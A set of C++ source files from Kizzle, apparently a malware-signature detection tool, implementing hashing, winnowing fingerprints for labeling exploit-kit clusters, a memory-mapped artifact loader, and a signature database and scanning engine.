    for (std::size_t c = 0; c < cells.size(); ++c) {
      if (c) os << "  ";
      os << cells[c];
      os << std::string(width[c] - cells[c].size(), ' ');
    }
    os << '\n';
  };
  emit(header_);
  std::size_t total = 0;
  for (std::size_t c = 0; c < width.size(); ++c) {
    total += width[c] + (c ? 2 : 0);
  }
  os << std::string(total, '-') << '\n';
  for (const auto& row : rows_) emit(row);
  return os.str();
}

std::string Table::to_csv() const {
  std::ostringstream os;
  auto emit = [&](const std::vector<std::string>& cells) {
    for (std::size_t c = 0; c < cells.size(); ++c) {
      if (c) os << ',';
      os << cells[c];
    }
    os << '\n';
  };
  emit(header_);
  for (const auto& row : rows_) emit(row);
  return os.str();
}

std::ostream& operator<<(std::ostream& os, const Table& t) {
  return os << t.to_string();
}

}  // namespace kizzle
