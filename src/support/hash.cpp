#include "support/hash.h"

#include <cstring>
#include <stdexcept>

namespace kizzle {

namespace {
constexpr std::uint64_t kFnvOffset = 0xCBF29CE484222325ull;
constexpr std::uint64_t kFnvPrime = 0x100000001B3ull;
constexpr std::uint64_t kBase = 0x9E3779B97F4A7C15ull | 1ull;  // odd
}  // namespace

std::uint64_t fnv1a64(std::string_view data) {
  std::uint64_t h = kFnvOffset;
  for (unsigned char c : data) {
    h ^= c;
    h *= kFnvPrime;
  }
  return h;
}

std::uint64_t fnv1a64(std::span<const std::uint32_t> symbols) {
  std::uint64_t h = kFnvOffset;
  for (std::uint32_t s : symbols) {
    for (int shift = 0; shift < 32; shift += 8) {
      h ^= (s >> shift) & 0xFF;
      h *= kFnvPrime;
    }
  }
  return h;
}

std::uint64_t hash_combine(std::uint64_t seed, std::uint64_t value) {
  return seed ^ (value + 0x9E3779B97F4A7C15ull + (seed << 12) + (seed >> 4));
}

void checksum_update(std::uint64_t& sum, const void* p, std::size_t n) {
  const auto* b = static_cast<const unsigned char*>(p);
  std::size_t i = 0;
  for (; i + 8 <= n; i += 8) {
    std::uint64_t w;
    std::memcpy(&w, b + i, 8);
    sum = (sum ^ w) * kFnvPrime;
  }
  std::uint64_t tail = 0xA5;
  for (; i < n; ++i) tail = (tail << 8) | b[i];
  sum = (sum ^ tail) * kFnvPrime;
}

RollingHash::RollingHash(std::size_t k) : k_(k) {
  if (k == 0) throw std::invalid_argument("RollingHash: k == 0");
  pow_k1_ = 1;
  for (std::size_t i = 0; i + 1 < k; ++i) pow_k1_ *= kBase;
}

std::uint64_t RollingHash::init(std::span<const std::uint32_t> data) {
  if (data.size() < k_) {
    throw std::invalid_argument("RollingHash::init: data shorter than window");
  }
  state_ = 0;
  for (std::size_t i = 0; i < k_; ++i) {
    state_ = state_ * kBase + data[i];
  }
  return state_;
}

std::uint64_t RollingHash::roll(std::uint32_t out, std::uint32_t in) {
  state_ = (state_ - out * pow_k1_) * kBase + in;
  return state_;
}

std::vector<std::uint64_t> RollingHash::all(
    std::span<const std::uint32_t> data) {
  std::vector<std::uint64_t> out;
  if (data.size() < k_) return out;
  out.reserve(data.size() - k_ + 1);
  out.push_back(init(data));
  for (std::size_t i = k_; i < data.size(); ++i) {
    out.push_back(roll(data[i - k_], data[i]));
  }
  return out;
}

}  // namespace kizzle
