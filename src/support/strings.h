// Small string utilities used across modules.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace kizzle {

// Splits on a (non-empty) delimiter string; keeps empty fields.
std::vector<std::string> split(std::string_view s, std::string_view delim);

// Joins with a separator.
std::string join(const std::vector<std::string>& parts, std::string_view sep);

// Replaces every occurrence of `from` (non-empty) with `to`.
std::string replace_all(std::string_view s, std::string_view from,
                        std::string_view to);

bool starts_with(std::string_view s, std::string_view prefix);
bool ends_with(std::string_view s, std::string_view suffix);

// Whitespace trim (space, tab, CR, LF, FF, VT).
std::string_view trim(std::string_view s);

// True if every character is an ASCII decimal digit (and s is non-empty).
bool all_digits(std::string_view s);

// Case-insensitive ASCII comparison.
bool iequals(std::string_view a, std::string_view b);

// Lowercases ASCII characters.
std::string to_lower(std::string_view s);

// Formats a double with fixed precision (locale-independent).
std::string format_double(double v, int precision);

// Formats as a percentage with given precision, e.g. 0.0312 -> "3.12%".
std::string format_percent(double fraction, int precision);

}  // namespace kizzle
