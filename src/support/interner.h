// String interning: maps strings to dense 32-bit ids and back.
//
// Token streams are compared millions of times during clustering; interning
// turns token comparison into integer comparison and shrinks the working set.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

namespace kizzle {

class Interner {
 public:
  using Id = std::uint32_t;

  Interner() = default;

  // Returns the id for `s`, creating one if unseen. Ids are dense, starting
  // at 0, in first-seen order.
  Id intern(std::string_view s);

  // Returns the id for `s` if present, or kNone.
  static constexpr Id kNone = UINT32_MAX;
  Id find(std::string_view s) const;

  // The string for an id. Throws std::out_of_range for unknown ids.
  const std::string& text(Id id) const;

  std::size_t size() const { return strings_.size(); }

 private:
  std::unordered_map<std::string, Id> map_;
  std::vector<std::string> strings_;
};

}  // namespace kizzle
