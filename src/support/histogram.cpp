#include "support/histogram.h"

#include <algorithm>
#include <bit>
#include <cmath>

namespace kizzle::support {

std::size_t LatencyHistogram::index_of(std::uint64_t v) {
  if (v < kSub) return static_cast<std::size_t>(v);
  const unsigned msb = 63u - static_cast<unsigned>(std::countl_zero(v));
  const unsigned shift = msb - (kSubBits - 1);
  // v >> shift is in [kSubHalf*2, kSub); the sub-bucket band of each shift
  // level is kSubHalf wide, so levels tile contiguously.
  return static_cast<std::size_t>(shift) * kSubHalf +
         static_cast<std::size_t>(v >> shift);
}

std::uint64_t LatencyHistogram::bucket_upper(std::size_t index) {
  if (index < kSub) return index;
  const std::size_t shift = index / kSubHalf - 1;
  const std::uint64_t top = index - shift * kSubHalf;
  return ((top + 1) << shift) - 1;
}

void LatencyHistogram::record(std::uint64_t value, std::uint64_t times) {
  if (times == 0) return;
  counts_[index_of(value)] += times;
  count_ += times;
  min_ = std::min(min_, value);
  max_ = std::max(max_, value);
  sum_ += static_cast<double>(value) * static_cast<double>(times);
}

void LatencyHistogram::merge(const LatencyHistogram& other) {
  for (std::size_t i = 0; i < kBucketCount; ++i) counts_[i] += other.counts_[i];
  count_ += other.count_;
  min_ = std::min(min_, other.min_);
  max_ = std::max(max_, other.max_);
  sum_ += other.sum_;
}

double LatencyHistogram::mean() const {
  return count_ == 0 ? 0.0 : sum_ / static_cast<double>(count_);
}

std::uint64_t LatencyHistogram::percentile(double q) const {
  if (count_ == 0) return 0;
  q = std::clamp(q, 0.0, 1.0);
  const auto target = static_cast<std::uint64_t>(
      std::ceil(q * static_cast<double>(count_)));
  std::uint64_t seen = 0;
  for (std::size_t i = 0; i < kBucketCount; ++i) {
    seen += counts_[i];
    if (seen >= target && counts_[i] > 0) {
      // Never report past the largest recorded value (the top bucket's
      // upper bound can overshoot it by the quantization step).
      return std::min(bucket_upper(i), max_);
    }
  }
  return max_;
}

void LatencyHistogram::clear() {
  counts_.fill(0);
  count_ = 0;
  min_ = ~0ull;
  max_ = 0;
  sum_ = 0.0;
}

}  // namespace kizzle::support
