// Fixed-width ASCII table printer used by the benchmark harnesses to emit
// the rows/series the paper's tables and figures report.
#pragma once

#include <iosfwd>
#include <string>
#include <vector>

namespace kizzle {

class Table {
 public:
  explicit Table(std::vector<std::string> header);

  // Adds a row; it must have exactly as many cells as the header.
  void add_row(std::vector<std::string> row);

  std::size_t rows() const { return rows_.size(); }

  // Renders with column alignment and a separator line under the header.
  std::string to_string() const;

  // Renders as CSV (no escaping of commas; callers avoid commas in cells).
  std::string to_csv() const;

  friend std::ostream& operator<<(std::ostream& os, const Table& t);

 private:
  std::vector<std::string> header_;
  std::vector<std::vector<std::string>> rows_;
};

}  // namespace kizzle
