// Hashing primitives shared by winnowing, n-gram search and deduplication.
#pragma once

#include <cstdint>
#include <span>
#include <string_view>
#include <vector>

namespace kizzle {

// 64-bit FNV-1a over raw bytes.
std::uint64_t fnv1a64(std::string_view data);

// 64-bit FNV-1a over a sequence of 32-bit symbols (interned tokens).
std::uint64_t fnv1a64(std::span<const std::uint32_t> symbols);

// Combines two 64-bit hashes (boost::hash_combine style, 64-bit constant).
std::uint64_t hash_combine(std::uint64_t seed, std::uint64_t value);

// Artifact checksum primitive shared by every binary release format
// (`.kpf` bundles, serialized prefilters, `KZDELTA` deltas) and by the
// structure-aware fuzz mutator that has to re-seal what it mutates.
// Word-at-a-time FNV-style mix: the automaton tables run to megabytes for
// large databases, and a per-byte checksum loop showed up as the dominant
// cost of artifact loading. The tail fold (0xA5-seeded) makes the call
// granularity part of the sum: writer and reader must call this with
// identical block sizes in identical order. The v2 formats therefore
// checksum their whole payload in a SINGLE call, which is also what lets
// a zero-copy loader verify a borrowed mapping in one pass.
inline constexpr std::uint64_t kChecksumBasis = 0xCBF29CE484222325ull;
void checksum_update(std::uint64_t& sum, const void* p, std::size_t n);

// splitmix64 finalizer (Steele, Lea, Flood): full-avalanche mix of a
// 64-bit value. Shared by the winnowing fingerprint hashes and the
// bit-parallel matcher's symbol table.
inline std::uint64_t splitmix64_mix(std::uint64_t x) {
  std::uint64_t z = x + 0x9E3779B97F4A7C15ull;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

// Polynomial rolling hash over a fixed-size window. Supports O(1) slide.
// Used for k-gram fingerprinting (winnowing) and n-gram search over token
// streams. The hash of a window w_0..w_{k-1} is
//   sum w_i * B^{k-1-i}  (mod 2^64),
// with base B an odd 64-bit constant.
class RollingHash {
 public:
  // k is the window size in elements; k >= 1.
  explicit RollingHash(std::size_t k);

  std::size_t window() const { return k_; }

  // Hash of the first window of `data` (data.size() >= k).
  std::uint64_t init(std::span<const std::uint32_t> data);

  // Slides the window one element to the right: removes `out`, adds `in`.
  std::uint64_t roll(std::uint32_t out, std::uint32_t in);

  // Convenience: all window hashes of `data` (empty if data.size() < k).
  std::vector<std::uint64_t> all(std::span<const std::uint32_t> data);

 private:
  std::size_t k_;
  std::uint64_t pow_k1_;  // B^{k-1}
  std::uint64_t state_ = 0;
};

}  // namespace kizzle
