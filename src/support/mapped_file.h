// Read-only file mapping for zero-copy artifact loading.
//
// A release artifact's automaton tables run to megabytes; re-reading and
// heap-copying them per process is the cold-start cost the `.kpf` format
// exists to avoid. MappedFile mmap()s the file PROT_READ, so every
// process on one box shares the same page-cache pages and the loader can
// point std::span views straight into the mapping instead of copying.
// When mmap is unavailable (exotic filesystems, zero-length files, or
// non-POSIX hosts) it degrades to a single heap read with identical
// semantics — callers only ever see bytes().
//
// The mapping is immutable and movable, never copyable. Anything that
// borrows views into bytes() (a zero-copy LiteralPrefilter, an
// engine::Database built over one) must keep the MappedFile alive;
// engine::Database does this by holding a shared_ptr to its mapping, so
// epoch lifetime management in serve/ works unchanged.
#pragma once

#include <cstddef>
#include <span>
#include <string>
#include <vector>

namespace kizzle::support {

class MappedFile {
 public:
  MappedFile() = default;
  ~MappedFile();

  MappedFile(MappedFile&& other) noexcept;
  MappedFile& operator=(MappedFile&& other) noexcept;
  MappedFile(const MappedFile&) = delete;
  MappedFile& operator=(const MappedFile&) = delete;

  // Opens and maps `path` read-only. Throws kizzle::InputError when the
  // file cannot be opened or read; an unmappable but readable file falls
  // back to a heap read (mapped() is false then).
  static MappedFile open(const std::string& path);

  const std::byte* data() const { return data_; }
  std::size_t size() const { return size_; }
  std::span<const std::byte> bytes() const { return {data_, size_}; }

  // True when the bytes live in an mmap'd region (page cache shared),
  // false on the read fallback (private heap copy).
  bool mapped() const { return map_ != nullptr; }

 private:
  void* map_ = nullptr;        // mmap base, or nullptr on the fallback
  std::size_t map_len_ = 0;    // mmap length (for munmap)
  std::vector<std::byte> fallback_;
  const std::byte* data_ = nullptr;
  std::size_t size_ = 0;
};

}  // namespace kizzle::support
