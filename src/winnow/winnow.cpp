#include "winnow/winnow.h"

#include <algorithm>
#include <stdexcept>

#include "support/hash.h"

namespace kizzle::winnow {

std::vector<Selected> winnow_hashes(std::span<const std::uint64_t> hashes,
                                    std::size_t window) {
  if (window == 0) throw std::invalid_argument("winnow: window == 0");
  std::vector<Selected> out;
  if (hashes.empty()) return out;
  if (hashes.size() <= window) {
    // Degenerate document: select the single global minimum (rightmost).
    std::size_t best = 0;
    for (std::size_t i = 1; i < hashes.size(); ++i) {
      if (hashes[i] <= hashes[best]) best = i;
    }
    out.push_back(Selected{hashes[best], best});
    return out;
  }
  std::size_t last_selected = SIZE_MAX;
  for (std::size_t w = 0; w + window <= hashes.size(); ++w) {
    // Rightmost minimal hash in [w, w + window).
    std::size_t best = w;
    for (std::size_t i = w + 1; i < w + window; ++i) {
      if (hashes[i] <= hashes[best]) best = i;
    }
    if (best != last_selected) {
      out.push_back(Selected{hashes[best], best});
      last_selected = best;
    }
  }
  return out;
}

FingerprintSet FingerprintSet::from_selected(
    const std::vector<Selected>& sel) {
  FingerprintSet fs;
  std::vector<std::uint64_t> hashes;
  hashes.reserve(sel.size());
  for (const Selected& s : sel) hashes.push_back(s.hash);
  std::sort(hashes.begin(), hashes.end());
  for (std::size_t i = 0; i < hashes.size();) {
    std::size_t j = i;
    while (j < hashes.size() && hashes[j] == hashes[i]) ++j;
    fs.counts_.emplace_back(hashes[i], static_cast<std::uint32_t>(j - i));
    i = j;
  }
  fs.total_ = hashes.size();
  return fs;
}

FingerprintSet FingerprintSet::of_text(std::string_view text,
                                       const Params& params) {
  if (params.k == 0) throw std::invalid_argument("winnow: k == 0");
  if (text.size() < params.k) return FingerprintSet{};
  // Hash each k-gram of bytes. A polynomial rolling hash over the bytes,
  // re-mixed with a final avalanche so that window minima are unbiased.
  std::vector<std::uint32_t> bytes(text.begin(), text.end());
  RollingHash rh(params.k);
  std::vector<std::uint64_t> hashes =
      rh.all(std::span<const std::uint32_t>(bytes));
  // splitmix64 finalizer as avalanche so window minima are unbiased.
  for (auto& h : hashes) h = splitmix64_mix(h);
  return from_selected(winnow_hashes(hashes, params.window));
}

FingerprintSet FingerprintSet::of_symbols(
    std::span<const std::uint32_t> symbols, const Params& params) {
  if (params.k == 0) throw std::invalid_argument("winnow: k == 0");
  if (symbols.size() < params.k) return FingerprintSet{};
  RollingHash rh(params.k);
  std::vector<std::uint64_t> hashes = rh.all(symbols);
  for (auto& h : hashes) h = splitmix64_mix(h);
  return from_selected(winnow_hashes(hashes, params.window));
}

std::size_t FingerprintSet::intersection_size(
    const FingerprintSet& other) const {
  std::size_t inter = 0;
  std::size_t i = 0;
  std::size_t j = 0;
  while (i < counts_.size() && j < other.counts_.size()) {
    if (counts_[i].first < other.counts_[j].first) {
      ++i;
    } else if (counts_[i].first > other.counts_[j].first) {
      ++j;
    } else {
      inter += std::min(counts_[i].second, other.counts_[j].second);
      ++i;
      ++j;
    }
  }
  return inter;
}

double FingerprintSet::containment(const FingerprintSet& other) const {
  if (total_ == 0) return 0.0;
  return static_cast<double>(intersection_size(other)) /
         static_cast<double>(total_);
}

bool sketch_rules_out(std::size_t inter, std::size_t max_len,
                      std::size_t limit, const Params& params) {
  const long long t = static_cast<long long>(params.k + params.window - 1);
  const long long floor_numerator = static_cast<long long>(max_len) -
                                    static_cast<long long>(limit) -
                                    (static_cast<long long>(limit) + 1) *
                                        (t - 1);
  if (floor_numerator <= 0) return false;  // bound vacuous for short streams
  return static_cast<long long>(inter) *
             static_cast<long long>(params.window) <
         floor_numerator;
}

double FingerprintSet::jaccard(const FingerprintSet& other) const {
  if (total_ == 0 && other.total_ == 0) return 1.0;
  const std::size_t inter = intersection_size(other);
  const std::size_t uni = total_ + other.total_ - inter;
  return static_cast<double>(inter) / static_cast<double>(uni);
}

}  // namespace kizzle::winnow
