// Winnowing document fingerprints (Schleimer, Wilkerson, Aiken 2003),
// used by Kizzle to label clusters (paper §III.B): the unpacked prototype
// of a cluster is fingerprinted and compared against the fingerprints of
// known unpacked exploit-kit samples; sufficient overlap labels the cluster
// with the corresponding family.
//
// Guarantee inherited from the original algorithm: in every window of
// `window` consecutive k-grams, at least one k-gram is selected as a
// fingerprint, so any shared substring of length >= k + window - 1 is
// detected by at least one shared fingerprint.
#pragma once

#include <cstdint>
#include <span>
#include <string_view>
#include <vector>

namespace kizzle::winnow {

struct Params {
  std::size_t k = 8;       // k-gram length (characters or symbols)
  std::size_t window = 4;  // winnowing window (in k-grams)
};

struct Selected {
  std::uint64_t hash;
  std::size_t position;  // index of the k-gram within the sequence
};

// Raw winnowing: selects the minimal hash of each window, rightmost-minimal
// tie-breaking, consecutive duplicates (same position) collapsed.
std::vector<Selected> winnow_hashes(std::span<const std::uint64_t> kgram_hashes,
                                    std::size_t window);

// Multiset of selected fingerprints. The paper calls this the "winnow
// histogram"; overlap between histograms drives labeling.
class FingerprintSet {
 public:
  FingerprintSet() = default;

  // Fingerprints of a character string (k-grams over bytes).
  static FingerprintSet of_text(std::string_view text, const Params& params);

  // Fingerprints of an interned token stream (k-grams over symbols).
  static FingerprintSet of_symbols(std::span<const std::uint32_t> symbols,
                                   const Params& params);

  // Number of selected fingerprints (with multiplicity).
  std::size_t size() const { return total_; }
  bool empty() const { return total_ == 0; }

  // Containment of *this* in `other`: |this ∩ other| / |this| with multiset
  // intersection. 0.0 when this is empty. This is the "overlap" used for
  // cluster labeling (asymmetric: how much of the prototype is explained by
  // the known sample).
  double containment(const FingerprintSet& other) const;

  // Symmetric Jaccard similarity |a ∩ b| / |a ∪ b|; 1.0 when both empty.
  double jaccard(const FingerprintSet& other) const;

  // Multiset intersection size |this ∩ other| (min of per-hash counts).
  // Used raw by the clustering pre-filter (sketch_rules_out below).
  std::size_t intersection(const FingerprintSet& other) const {
    return intersection_size(other);
  }

 private:
  static FingerprintSet from_selected(const std::vector<Selected>& sel);
  std::size_t intersection_size(const FingerprintSet& other) const;

  std::vector<std::pair<std::uint64_t, std::uint32_t>> counts_;  // sorted
  std::size_t total_ = 0;
};

// Edit-distance pruning support (TokenDbscan's sketch tier): true when the
// fingerprint overlap `inter` between two sequences is provably too small
// for lev(a, b) <= limit, so the pair can be rejected without running the
// DP. `max_len` is max(|a|, |b|) in symbols.
//
// Derivation. Let t = k + window - 1. An alignment of cost d leaves
// M >= max_len - d matched positions, split into at most d + 1 maximal
// runs. A window of `window` consecutive k-grams lying entirely inside a
// matched run has identical content in both sequences, so it selects the
// same fingerprint in both (selection is window-local); a run of length l
// contains l - t + 1 such windows, and one selected position covers at
// most `window` of them, so the run contributes >= (l - t + 1) / window
// distinct shared selections — instances present in both multisets.
// Summing over runs:
//   inter >= (max_len - d - (d + 1)(t - 1)) / window.
// If inter falls below that floor evaluated at d = limit, then d > limit.
bool sketch_rules_out(std::size_t inter, std::size_t max_len,
                      std::size_t limit, const Params& params);

}  // namespace kizzle::winnow
