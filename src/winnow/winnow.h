// Winnowing document fingerprints (Schleimer, Wilkerson, Aiken 2003),
// used by Kizzle to label clusters (paper §III.B): the unpacked prototype
// of a cluster is fingerprinted and compared against the fingerprints of
// known unpacked exploit-kit samples; sufficient overlap labels the cluster
// with the corresponding family.
//
// Guarantee inherited from the original algorithm: in every window of
// `window` consecutive k-grams, at least one k-gram is selected as a
// fingerprint, so any shared substring of length >= k + window - 1 is
// detected by at least one shared fingerprint.
#pragma once

#include <cstdint>
#include <span>
#include <string_view>
#include <vector>

namespace kizzle::winnow {

struct Params {
  std::size_t k = 8;       // k-gram length (characters or symbols)
  std::size_t window = 4;  // winnowing window (in k-grams)
};

struct Selected {
  std::uint64_t hash;
  std::size_t position;  // index of the k-gram within the sequence
};

// Raw winnowing: selects the minimal hash of each window, rightmost-minimal
// tie-breaking, consecutive duplicates (same position) collapsed.
std::vector<Selected> winnow_hashes(std::span<const std::uint64_t> kgram_hashes,
                                    std::size_t window);

// Multiset of selected fingerprints. The paper calls this the "winnow
// histogram"; overlap between histograms drives labeling.
class FingerprintSet {
 public:
  FingerprintSet() = default;

  // Fingerprints of a character string (k-grams over bytes).
  static FingerprintSet of_text(std::string_view text, const Params& params);

  // Fingerprints of an interned token stream (k-grams over symbols).
  static FingerprintSet of_symbols(std::span<const std::uint32_t> symbols,
                                   const Params& params);

  // Number of selected fingerprints (with multiplicity).
  std::size_t size() const { return total_; }
  bool empty() const { return total_ == 0; }

  // Containment of *this* in `other`: |this ∩ other| / |this| with multiset
  // intersection. 0.0 when this is empty. This is the "overlap" used for
  // cluster labeling (asymmetric: how much of the prototype is explained by
  // the known sample).
  double containment(const FingerprintSet& other) const;

  // Symmetric Jaccard similarity |a ∩ b| / |a ∪ b|; 1.0 when both empty.
  double jaccard(const FingerprintSet& other) const;

 private:
  static FingerprintSet from_selected(const std::vector<Selected>& sel);
  std::size_t intersection_size(const FingerprintSet& other) const;

  std::vector<std::pair<std::uint64_t, std::uint32_t>> counts_;  // sorted
  std::size_t total_ = 0;
};

}  // namespace kizzle::winnow
