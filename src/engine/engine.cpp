#include "engine/engine.h"

#include <stdexcept>

#include "core/sigdb.h"

namespace kizzle::engine {

// ------------------------------ database ------------------------------

Database::Database() {
  // An empty automaton is still a built automaton: scans on an empty
  // database are legal and deliver nothing.
  prefilter_.build();
}

void Database::build_prefilter() {
  for (std::size_t i = 0; i < entries_.size(); ++i) {
    prefilter_.add(i, entries_[i].pattern.required_literal());
  }
  prefilter_.build();
}

Database Database::compile(const std::vector<Spec>& specs) {
  Database db;
  db.entries_.reserve(specs.size());
  for (const Spec& s : specs) {
    db.entries_.push_back(
        Entry{s.name, s.family, match::Pattern::compile(s.pattern)});
  }
  db.build_prefilter();
  return db;
}

Database Database::compile(const std::vector<core::DeployedSignature>& sigs) {
  std::vector<Spec> specs;
  specs.reserve(sigs.size());
  for (const core::DeployedSignature& s : sigs) {
    specs.push_back(Spec{s.name, s.family, s.pattern});
  }
  return compile(specs);
}

Database Database::from_entries(std::vector<Entry> entries) {
  Database db;
  db.entries_ = std::move(entries);
  db.build_prefilter();
  return db;
}

Database Database::from_entries(std::vector<Entry> entries,
                                match::LiteralPrefilter prebuilt) {
  if (!prebuilt.built()) {
    throw std::runtime_error("engine::Database: prefilter not built");
  }
  if (prebuilt.id_count() != entries.size()) {
    throw std::runtime_error(
        "engine::Database: prefilter id count disagrees with entry list");
  }
  Database db;
  db.entries_ = std::move(entries);
  db.prefilter_ = std::move(prebuilt);
  return db;
}

Database Database::from_artifact(
    std::istream& artifact,
    std::vector<core::DeployedSignature>* signatures_out) {
  // No trial compilation inside the loader: every pattern is compiled for
  // real right below (and a bad one still throws).
  core::BundleArtifact loaded =
      core::load_artifact(artifact, /*validate_patterns=*/false);
  std::vector<Entry> entries;
  entries.reserve(loaded.signatures.size());
  for (const core::DeployedSignature& s : loaded.signatures) {
    entries.push_back(
        Entry{s.name, s.family, match::Pattern::compile(s.pattern)});
  }
  if (signatures_out != nullptr) *signatures_out = std::move(loaded.signatures);
  // The release-time automaton, exactly as built by `kizzle pack` /
  // KizzlePipeline::export_artifact — no per-process rebuild.
  return from_entries(std::move(entries), std::move(loaded.prefilter));
}

Database Database::extend(Entry extra) const {
  Database out;
  out.entries_.reserve(entries_.size() + 1);
  // Shared programs: copying an existing entry is O(1).
  out.entries_.insert(out.entries_.end(), entries_.begin(), entries_.end());
  out.entries_.push_back(std::move(extra));
  out.build_prefilter();
  return out;
}

const std::string& Database::name(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("engine::Database::name: bad index");
  }
  return entries_[index].name;
}

const std::string& Database::family(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("engine::Database::family: bad index");
  }
  return entries_[index].family;
}

const match::Pattern& Database::pattern(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("engine::Database::pattern: bad index");
  }
  return entries_[index].pattern;
}

// ------------------------------- scanning ------------------------------

namespace {

// The one confirmation loop every scan shape funnels into. Candidates are
// ascending, so the first delivered event is the brute-force first match.
// Confirmation dispatches on the pattern's compile-time tier
// (Pattern::confirm_span): find() for pure literals, the compiled confirm
// program for literal-dominated signatures, the backtracking VM only for
// regex-shaped ones — whose budget overruns are counted and skipped,
// exactly like the pre-engine Scanner/SignatureBundle paths (the compiled
// tiers cannot overrun). Tier counts land in scratch.stats_.
ScanOutcome confirm_loop(const Database& db,
                         std::span<const std::size_t> candidates,
                         std::string_view text, match::VmScratch& vm,
                         ScanStats& stats, const CandidateFn* should_confirm,
                         MatchFn on_match,
                         const std::vector<std::uint32_t>* hints = nullptr) {
  ScanOutcome out;
  stats.candidates = candidates.size();
  stats.confirmed_literal = 0;
  stats.confirmed_literal_dominated = 0;
  stats.confirmed_vm = 0;
  const std::span<const Database::Entry> entries = db.entries();
  for (const std::size_t i : candidates) {
    if (i >= entries.size()) {
      throw std::out_of_range("engine::confirm: bad candidate index");
    }
    if (should_confirm != nullptr && !(*should_confirm)(i)) continue;
    const Database::Entry& entry = entries[i];  // bounds-checked above
    switch (entry.pattern.confirm_tier()) {
      case match::ConfirmTier::kLiteral:
        ++stats.confirmed_literal;
        break;
      case match::ConfirmTier::kLiteralDominated:
        ++stats.confirmed_literal_dominated;
        break;
      case match::ConfirmTier::kRegex:
        ++stats.confirmed_vm;
        break;
    }
    // The prefilter's tier-2 confirm already located each surviving id's
    // literal; seed the confirmation there instead of re-finding it.
    std::size_t hint = match::Pattern::knpos;
    if (hints != nullptr && i < hints->size() &&
        (*hints)[i] != match::teddy::kNoHint) {
      hint = (*hints)[i];
    }
    const match::SpanResult r =
        entry.pattern.confirm_span(text, vm, 0, 0, hint);
    if (r.budget_exceeded) {
      ++out.budget_exceeded;
      continue;
    }
    if (!r.matched) continue;
    ++out.events;
    const MatchEvent event{i, r.begin, r.end, entry.name, entry.family};
    if (on_match(event) == ScanDecision::Stop) {
      out.stopped = true;
      break;
    }
  }
  return out;
}

}  // namespace

ScanOutcome scan(const Database& db, std::string_view text, Scratch& scratch,
                 MatchFn on_match) {
  db.prefilter().candidates_into(text, scratch.candidates_,
                                 scratch.teddy_hits_,
                                 &scratch.stats_.prefilter, &scratch.hints_);
  return confirm_loop(db, scratch.candidates_, text, scratch.vm_,
                      scratch.stats_, nullptr, on_match, &scratch.hints_);
}

ScanOutcome scan(const Database& db, std::string_view text, Scratch& scratch,
                 CandidateFn should_confirm, MatchFn on_match) {
  db.prefilter().candidates_into(text, scratch.candidates_,
                                 scratch.teddy_hits_,
                                 &scratch.stats_.prefilter, &scratch.hints_);
  return confirm_loop(db, scratch.candidates_, text, scratch.vm_,
                      scratch.stats_, &should_confirm, on_match,
                      &scratch.hints_);
}

ScanOutcome confirm(const Database& db, std::span<const std::size_t> candidates,
                    std::string_view text, Scratch& scratch, MatchFn on_match) {
  scratch.stats_.prefilter = match::PrefilterStats{};
  return confirm_loop(db, candidates, text, scratch.vm_, scratch.stats_,
                      nullptr, on_match);
}

ScanOutcome confirm(const Database& db, std::span<const std::size_t> candidates,
                    std::string_view text, Scratch& scratch,
                    CandidateFn should_confirm, MatchFn on_match) {
  scratch.stats_.prefilter = match::PrefilterStats{};
  return confirm_loop(db, candidates, text, scratch.vm_, scratch.stats_,
                      &should_confirm, on_match);
}

std::optional<MatchEvent> first_match(const Database& db, std::string_view text,
                                      Scratch& scratch) {
  std::optional<MatchEvent> first;
  scan(db, text, scratch, [&first](const MatchEvent& event) {
    first = event;
    return ScanDecision::Stop;
  });
  return first;
}

// ------------------------------- streams -------------------------------

Stream open_stream(const Database& db, Scratch& scratch) {
  if (scratch.matcher_.has_value()) {
    scratch.matcher_->rebind(db.prefilter());
  } else {
    scratch.matcher_.emplace(db.prefilter());
  }
  scratch.normalized_.clear();
  return Stream(&db, &scratch);
}

void Stream::feed(std::string_view normalized_chunk) {
  scratch_->matcher_->feed(normalized_chunk);
  scratch_->normalized_ += normalized_chunk;
}

ScanOutcome Stream::finish(MatchFn on_match) const {
  // Snapshot semantics: the cursor's candidate set is materialized into
  // the scratch's candidate buffer, then confirmed against the accumulated
  // text. Feeding may continue afterwards.
  scratch_->matcher_->finish_into(scratch_->candidates_);
  scratch_->stats_.prefilter = match::PrefilterStats{};
  return confirm_loop(*db_, scratch_->candidates_, scratch_->normalized_,
                      scratch_->vm_, scratch_->stats_, nullptr, on_match);
}

std::optional<MatchEvent> Stream::finish_first() const {
  std::optional<MatchEvent> first;
  finish([&first](const MatchEvent& event) {
    first = event;
    return ScanDecision::Stop;
  });
  return first;
}

std::size_t Stream::bytes_fed() const { return scratch_->matcher_->bytes_fed(); }

}  // namespace kizzle::engine
