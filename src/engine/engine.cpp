#include "engine/engine.h"

#include <chrono>
#include <stdexcept>

#include "core/sigdb.h"
#include "support/errors.h"
#include "support/hash.h"
#include "support/mapped_file.h"

namespace kizzle::engine {

// ------------------------------ database ------------------------------

Database::Database() {
  // An empty automaton is still a built automaton: scans on an empty
  // database are legal and deliver nothing.
  prefilter_.build();
  refresh_fingerprint();
}

void Database::build_prefilter() {
  for (std::size_t i = 0; i < entries_.size(); ++i) {
    prefilter_.add(i, entries_[i].pattern.required_literal());
  }
  prefilter_.build();
}

void Database::refresh_fingerprint() {
  std::uint64_t sum = core::kFingerprintBasis;
  const std::uint64_t n = entries_.size();
  checksum_update(sum, &n, sizeof n);
  for (const Entry& e : entries_) {
    core::fingerprint_mix(sum, e.name, e.family, e.pattern.source());
  }
  std::vector<std::uint64_t> retired;
  retired.reserve(retired_count_);
  for (std::size_t i = 0; i < retired_.size(); ++i) {
    if (retired_[i] != 0) retired.push_back(i);
  }
  core::fingerprint_retire(sum, retired);
  fingerprint_ = sum;
}

Database Database::compile(const std::vector<Spec>& specs) {
  Database db;
  db.entries_.reserve(specs.size());
  for (const Spec& s : specs) {
    db.entries_.push_back(
        Entry{s.name, s.family, match::Pattern::compile(s.pattern)});
  }
  db.build_prefilter();
  db.refresh_fingerprint();
  return db;
}

